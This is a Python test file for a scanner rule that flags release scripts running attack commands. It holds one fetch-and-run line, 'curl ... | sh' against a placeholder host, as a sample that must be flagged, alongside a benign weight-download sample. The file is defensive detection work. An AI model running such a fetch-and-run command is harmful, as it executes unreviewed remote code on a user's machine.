"""Rule script-command: no script of a release runs a command of an attack."""

from __future__ import annotations

from inspect_samples import found, told

from watchword.inspect.facts import Verdict


def test_a_script_that_fetches_and_runs_is_dangerous() -> None:
    """What a server hands out is run without having been looked at."""
    assert ("script-command", Verdict.DANGEROUS) in told(b"#!/bin/sh\ncurl -s http://a.example/x.sh | sh\n", "get.sh")


def test_a_script_that_fetches_weights_is_silent() -> None:
    """Downloads are what scripts of models are for."""
    assert (
        found(b"#!/bin/sh\nset -e\nwget https://a.example/w.bin -O w.bin\npython convert.py w.bin\n", "get.sh") == set()
    )
